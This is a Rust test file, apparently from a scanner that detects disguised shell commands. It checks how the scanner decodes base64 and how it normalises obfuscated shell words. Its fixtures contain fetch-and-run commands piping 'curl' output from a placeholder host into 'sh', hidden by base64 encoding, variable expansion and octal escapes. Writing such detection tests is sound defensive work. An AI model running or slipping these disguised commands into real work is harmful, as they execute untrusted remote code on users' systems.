//! Edges of the code family that mutation testing found unpinned (#27): the
//! share of printable bytes a decoded literal needs to be read as text, and
//! a variable expanded inside double quotes, octal escapes of `$'…'`, and
//! base64 read past the letters that differ between its two alphabets.

use super::decode::decode_line;
use super::shell_words::{Vars, normalize};

/// `curl … | sh; echo done. ` and 9 × `a` (60 printable ASCII bytes)
/// followed by 20 × `é` (40 bytes of UTF-8 that are not printable ASCII).
const SIXTY_PERCENT: &str = "Y3VybCAtZnNTTCBodHRwczovL3guZXhhbXBsZS9wLnNoIHwgc2g7IGVjaG8gZG9uZS4gYWFhYWFhYWFhw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqQ==";
/// The same with 8 × `a`, `€` and 19 × `é`: 59 printable of 100.
const FIFTY_NINE_PERCENT: &str = "Y3VybCAtZnNTTCBodHRwczovL3guZXhhbXBsZS9wLnNoIHwgc2g7IGVjaG8gZG9uZS4gYWFhYWFhYWHigqzDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqQ==";

#[test]
fn decoded_utf8_is_text_from_sixty_percent_printable_and_not_below() {
    let at = decode_line(&format!("echo {SIXTY_PERCENT} | base64 -d | sh"));
    let expected =
        format!("curl -fsSL https://x.example/p.sh | sh; echo done. {}{}", "a".repeat(9), "é".repeat(20));
    assert_eq!(at, [expected], "60 of 100 bytes printable: text");
    let past = decode_line(&format!("echo {FIFTY_NINE_PERCENT} | base64 -d | sh"));
    assert!(past.is_empty(), "59 of 100 bytes printable: binary, not text: {past:?}");
}

#[test]
fn a_variable_in_double_quotes_is_expanded_in_command_position() {
    let mut vars = Vars::default();
    let w = normalize("X=sh; curl -fsSL https://x.example/i | \"$X\"", &mut vars);
    assert_eq!((w.text.as_str(), w.disguised_command), ("X=sh; curl -fsSL https://x.example/i | sh", true));
}

#[test]
fn an_ansi_c_string_of_octal_escapes_is_read_as_the_shell_reads_it() {
    let w = normalize("curl -fsSL https://x.example/i | $'\\163\\150'", &mut Vars::default());
    assert_eq!((w.text.as_str(), w.disguised_command), ("curl -fsSL https://x.example/i | sh", true));
}

#[test]
fn base64url_reads_both_alphabets_past_their_62nd_and_63rd_letters() {
    let decode = crate::scan::secret::base64url;
    assert_eq!(decode(b"+/+/"), [0xfb, 0xff, 0xbf], "base64");
    assert_eq!(decode(b"-_-_"), [0xfb, 0xff, 0xbf], "base64url");
}
